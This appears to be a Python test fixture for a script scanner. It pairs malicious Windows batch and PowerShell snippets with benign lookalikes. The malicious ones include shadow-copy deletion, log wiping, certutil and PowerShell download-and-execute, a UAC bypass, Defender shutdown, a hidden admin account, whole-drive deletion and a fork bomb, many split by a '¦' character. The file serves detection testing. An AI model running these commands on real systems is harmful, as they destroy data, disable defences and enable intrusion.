# ruff: noqa: E501 -- a line of a script is one line here, too
from tests.engine.script_texts import pair

TEMP = "$env:TEMP\\setup.exe"

CASES = {
    "windows.run_key": pair(
        "a.bat",
        'reg add "HKCU\\Software\\Microsoft\\Windows\\Current¦Version\\Run" /v tool /d C:\\tool.exe\r\n',
        'reg add "HKCU\\Software\\Tool" /v size /d 3\r\n',
    ),
    "windows.scheduled_task": pair(
        "a.bat", "sch¦tasks /create /tn backup /tr C:\\backup.bat /sc daily\r\n", "schtasks /query\r\n"
    ),
    "windows.shadow_delete": pair("a.bat", "vss¦admin delete sha¦dows /all /quiet\r\n", "vssadmin list shadows\r\n"),
    "windows.recovery_off": pair("a.bat", "bcd¦edit /set {default} recovery¦enabled no\r\n", "bcdedit /enum\r\n"),
    "windows.no_way_back": pair(
        "a.bat",
        "vss¦admin delete sha¦dows /all /quiet\r\nbcd¦edit /set {default} recovery¦enabled no\r\n",
        "vssadmin list shadows\r\nbcdedit /enum\r\n",
    ),
    "windows.log_wipe": pair("a.bat", "wevt¦util cl Security\r\n", "wevtutil qe Security /c:5\r\n"),
    "windows.tool_download": pair(
        "a.bat",
        "cert¦util -url¦cache -split -f https://example.com/a.txt a.txt\r\n",
        "certutil -hashfile a.txt SHA256\r\n",
    ),
    "windows.tool_download_start": pair(
        "a.bat",
        "cert¦util -url¦cache -split -f https://example.com/a.txt %TEMP%\\a.exe\r\n%TEMP%\\a.exe\r\n",
        "certutil -hashfile %TEMP%\\a.exe SHA256\r\n",
    ),
    "windows.tool_decode": pair(
        "a.bat", "cert¦util -decode a.txt a.exe\r\nstart a.exe\r\n", "certutil -dump a.cer\r\nstart notes.txt\r\n"
    ),
    "windows.mshta_remote": pair("a.bat", "ms¦hta https://example.com/a\r\n", "mshta C:\\app\\menu.hta\r\n"),
    "windows.regsvr32_remote": pair(
        "a.bat", "reg¦svr32 /s /n /u /i:https://example.com/a scr¦obj.dll\r\n", "regsvr32 /s C:\\app\\part.dll\r\n"
    ),
    "windows.rundll32_script": pair(
        "a.bat",
        'run¦dll32 java¦script:"\\..\\mshtml,RunHTMLApplication ";x()\r\n',
        "rundll32 shell32.dll,Control_RunDLL desk.cpl\r\n",
    ),
    "windows.remote_installer": pair(
        "a.bat", "msi¦exec /q /i https://example.com/a.msi\r\n", "msiexec /i setup.msi\r\n"
    ),
    "windows.firewall_off": pair(
        "a.bat", "net¦sh advfirewall set allprofiles state off\r\n", "netsh advfirewall set allprofiles state on\r\n"
    ),
    "windows.uac_bypass": pair(
        "a.bat",
        'reg add "HKCU\\Software\\Classes\\ms-¦settings\\shell\\open\\command" /d C:\\a.exe /f\r\n',
        "start ms-settings:windowsupdate\r\n",
    ),
    "windows.protection_killed": pair("a.bat", "sc stop Win¦Defend\r\n", "sc query WinDefend\r\n"),
    "windows.download_file": pair(
        "a.ps1", "Invoke-WebRequest https://example.com/list.csv -OutFile list.csv\n", "Import-Csv list.csv\n"
    ),
    "windows.start_file": pair("a.ps1", "Start-Process notepad.exe\n", "Get-Process notepad\n"),
    "windows.temp_program": pair(
        "a.ps1", f"Copy-Item setup.exe {TEMP}\n", "Copy-Item setup.exe D:\\tools\\setup.exe\n"
    ),
    "windows.hidden_download_start": pair(
        "a.ps1",
        f'(New-Object Net.WebClient).Down¦loadFile(\'https://example.com/a\', "{TEMP}")\nStart-Process "{TEMP}" -WindowStyle Hid¦den\n',
        f'(New-Object Net.WebClient).DownloadFile(\'https://example.com/a\', "{TEMP}")\nStart-Process "{TEMP}"\n',
    ),
    "windows.download_start_odd_place": pair(
        "a.ps1",
        f'(New-Object Net.WebClient).Down¦loadFile(\'http://45.9.148.1/a.exe\', "{TEMP}")\nStart-Process "{TEMP}"\n',
        f'(New-Object Net.WebClient).DownloadFile(\'https://example.com/a\', "{TEMP}")\nStart-Process "{TEMP}"\n',
    ),
    "windows.user_added": pair(
        "a.bat",
        "net user helper Pw1 /add\r\nnet local¦group administrators helper /add\r\nreg add HKLM\\x\\SpecialAccounts\\UserList /v helper /d 0\r\n",
        "net user\r\nnet localgroup administrators\r\n",
    ),
    "windows.mass_delete": pair("a.bat", "@echo off\r\nrd /s /q C:\\\r\n", "@echo off\r\nrd /s /q C:\\build\\out\r\n"),
    "windows.fork_bomb": pair("a.bat", "@echo off\r\n%0|%0\r\n", "@echo off\r\necho %0\r\n"),
    "windows.self_deleting": pair("a.bat", "echo done\r\ndel %~f0\r\n", "echo done\r\ndel old.log\r\n"),
}
